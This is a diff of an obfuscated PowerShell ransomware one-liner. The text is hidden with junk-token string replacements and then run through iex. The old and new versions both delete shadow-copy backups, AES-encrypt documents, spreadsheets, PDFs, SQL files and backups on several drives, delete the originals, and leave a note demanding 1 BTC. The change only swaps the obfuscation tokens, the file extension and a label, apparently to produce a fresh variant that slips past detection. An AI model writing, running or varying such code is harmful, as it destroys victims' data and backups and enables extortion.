@@ -1,13 +1,13 @@
-iex (('# config 0248 v4
-vssadmin.exe delete shadows /all /quiet
-Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
-$aes = [System.Security.Cryptography.Aes]::Create()
+iex (('# provision 5799 v4
+vssadmin.exe delete shadows /all /ZZZ61quiet
+Get-WmiObject Win32_Shadowqj~0opy | ForEach-Object { $_.Delete() }
+$aes = [System.Security.qj~0ryptography.Aes]::qj~0reate()
 $aes.Key = [Text.Encoding]::UTF8.GetBytes(''Sup3rS3cure!Sup3rS3cure!''.Substring(0,32))
-Get-ChildItem -Path D:\, E:\JQJ69, C:\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -qx~1ecurse -ErrorAction SilentlyContinue | ForEach-Object {
-  $bytes = [IO.File]::qx~1eadAllBytes($_.FullName)
-  $enc = $aes.CreateEncryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
-  [IO.File]::WriteAllBytes($_.FullName +JQJ69 ''.locked'', $enc)
-  qx~1emove-Item $_.FullName -Force
+Get-qj~0hildItem -Path D:\, E:\, qj~0:\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -Recurse -ErrorAction Silentlyqj~0ontinue | ForEach-Object {
+  $bytes = [IO.File]::ReadAllBytes($_.FullName)
+  $enc = $aes.qj~0reateEncZZZ61ryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
+  [IO.File]::WriteAllBytes($_.FullName + ''.crypt'', $enc)
+  RemovZZZ61e-Item $_.FullName -Force
 }
-Set-Content C:\Users\Public\Desktop\HOW_TO_DECqx~1YPT.txt ''Your files have been encrypted. Pay 1 BTC to restore them.''
-' -replace 'JQJ69','').Replace('qx~1','R'))
+Set-qj~0ontent qj~0:\Users\Public\Desktop\HOW_TO_DEqj~0RYPT.txt ''Your files have been encrypted. Pay 1 BTqj~0 to restore them.''
+' -replace 'ZZZ61','').Replace('qj~0','C'))
